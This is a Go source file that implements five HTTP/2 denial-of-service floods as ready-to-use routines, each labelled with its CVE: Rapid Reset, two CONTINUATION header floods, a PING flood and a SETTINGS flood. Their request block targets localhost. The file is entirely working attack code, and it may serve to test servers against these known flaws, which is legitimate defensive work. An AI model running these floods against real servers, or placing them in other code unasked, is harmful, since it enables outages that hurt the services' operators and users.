package floods

import (
	"bytes"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// RapidReset asks and takes it back at once (CVE-2023-44487). A request that was taken back does
// not count against SETTINGS_MAX_CONCURRENT_STREAMS, so its client may go on without a pause.
var RapidReset = Flood{
	Name: "rapid reset",
	send: func(f *http2.Framer, i uint32) error {
		f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: request, EndStream: true, EndHeaders: true})
		return f.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
	},
}

// Continuation begins a request and never comes to the end of its fields (CVE-2023-45288).
var Continuation = Flood{
	Name: "CONTINUATION, with fields",
	once: begin,
	send: func(f *http2.Framer, _ uint32) error { return f.WriteContinuation(1, false, field) },
}

// EmptyContinuation does so with frames that have nothing in them, and then ends the fields.
var EmptyContinuation = Flood{
	Name: "CONTINUATION, empty",
	once: begin,
	send: func(f *http2.Framer, _ uint32) error { return f.WriteContinuation(1, false, nil) },
	done: func(f *http2.Framer) error { return f.WriteContinuation(1, true, nil) },
}

// Ping wants answers that it does not read (CVE-2019-9512).
var Ping = Flood{
	Name: "PING",
	Mute: true,
	send: func(f *http2.Framer, i uint32) error { return f.WritePing(false, [8]byte{byte(i)}) },
}

// Settings wants each of its SETTINGS acknowledged, and does not read that (CVE-2019-9515).
var Settings = Flood{
	Name: "SETTINGS",
	Mute: true,
	send: func(f *http2.Framer, _ uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
	},
}

// All of them.
func All() []Flood { return []Flood{RapidReset, Continuation, EmptyContinuation, Ping, Settings} }

func begin(f *http2.Framer) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request, EndStream: true})
}

// request is a field block that asks for /, without the table, so that it may be sent again.
var request = []byte("\x82\x86\x84\x01\x09localhost")

// field is one of 4,000 bytes.
var field = func() []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.WriteField(hpack.HeaderField{Name: "filler", Value: strings.Repeat("x", 4000), Sensitive: true}) // not for the table
	return block.Bytes()
}()
